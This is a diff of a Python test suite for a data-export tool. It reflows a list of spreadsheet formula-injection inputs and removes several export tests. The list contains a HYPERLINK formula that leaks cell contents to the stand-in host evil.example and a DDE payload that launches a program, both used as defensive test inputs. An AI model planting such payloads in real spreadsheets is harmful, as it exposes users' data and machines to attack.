@@ -33,17 +33,9 @@ from support.fake_platform.core import event_id
 from support.fake_platform.over_http import HttpPlatform
 
 FORMULAS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"click")',
-    "+1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1)",
-    "\t=1",
-    "\r=1",
-    "\n=1",
-    "  =1",
-    "\u200b=1",
-    "＝1",
-]
+    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1",
+    "\n=1", "  =1", "\u200b=1", "＝1"
+]  # fmt: skip
 HARMLESS = ["plain", "a = b", "1-2", "", "it's", 'a "quoted" text', "a; b", "a\nb", "ünï ✓"]
 # Formulas where a program separates cells by semicolons or tabs, and their escape.
 WITHIN = {
@@ -107,16 +99,6 @@ def test_no_cell_is_a_formula_wherever_the_separators_are(text: str, tmp_path: P
 @example("'=1")
 def test_what_was_escaped_is_read_as_it_was(text: str) -> None:
     assert unescaped(_escape_text(text)) == text
-
-
-def test_lists_are_json_where_a_file_has_none(tmp_path: Path) -> None:
-    tags = pd.Series([["a", "=1"], [], None], dtype=pd.ArrowDtype(pa.list_(pa.string())))
-    frame = pd.DataFrame({"tags": tags})
-    assert read_rows(ab.export(frame, tmp_path / "x.csv")) == [["tags"], ['["a", "=1"]'], ["[]"], [""]]
-    assert "[&quot;a&quot;, &quot;=1&quot;]" in ab.export(frame, tmp_path / "x.html").read_text().replace('"', "&quot;")
-    again = pd.read_parquet(ab.export(frame, tmp_path / "x.parquet"))
-    assert [None if value is None else list(value) for value in again["tags"]] == [["a", "=1"], [], None]
-    assert [row[0] for row in write_workbook(frame, tmp_path / "x.xlsx")["data"].values][1:] == ['["a", "=1"]', "[]"]
 
 
 def test_texts_of_categories_indexes_and_objects_are_escaped_too(tmp_path: Path) -> None:
@@ -224,24 +206,6 @@ def test_excel_says_which_texts_it_cuts(tmp_path: Path) -> None:
     assert "2 texts were longer" in {name.value: value.value for name, value in book["about"].iter_rows()}["texts cut"]
 
 
-def test_excel_has_numbers_truths_and_gaps(tmp_path: Path) -> None:
-    frame = pd.DataFrame(
-        {
-            "Int64": pd.array([1, None, 2**60], "Int64"),
-            "float": [0.5, np.nan, np.inf],
-            "boolean": pd.array([True, None, False], "boolean"),
-            "kind": pd.Categorical(["a", None, "b"]),
-        }
-    )
-    rows = [[cell.value for cell in row] for row in write_workbook(frame, tmp_path / "x.xlsx")["data"].iter_rows()]
-    assert rows == [
-        ["Int64", "float", "boolean", "kind"],
-        [1, 0.5, True, "a"],
-        [None, None, None, None],
-        [str(2**60), "inf", False, "b"],
-    ]
-
-
 def test_excel_refuses_what_a_sheet_cannot_hold(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     pytest.importorskip("xlsxwriter", reason="Excel files need xlsxwriter")
     monkeypatch.setattr(export, "MAX_ROWS", 3)
@@ -326,18 +290,6 @@ def test_html_is_one_page_without_scripts(tmp_path: Path) -> None:
     assert "a\nb" in page
     assert "default-src 'none'" in page
     assert "<title>&lt;b&gt;events: 3 rows</title>" in page
-
-
-def test_lines_of_json_hold_each_number_as_it_was(tmp_path: Path) -> None:
-    values = [1.5e-11, 3.75e-8, 0.1234567890123456, 1e-15, 1e300, -0.0]
-    frame = pd.DataFrame(
-        {"cost": values, "any": pd.Series(values, dtype=object), "n": pd.Series([2**62] * 6, dtype="Int64")}
-    )
-    frame.loc[6] = [float("inf"), None, pd.NA]
-    lines = ab.export(frame, tmp_path / "costs.jsonl").read_text("utf-8").splitlines()
-    rows = [json.loads(line) for line in lines]
-    assert [row["cost"] for row in rows] == [row["any"] for row in rows] == [*values, None]
-    assert [row["n"] for row in rows] == [2**62] * 6 + [None]
 
 
 def test_a_spreadsheet_program_sees_that_a_csv_is_utf_8(tmp_path: Path) -> None:
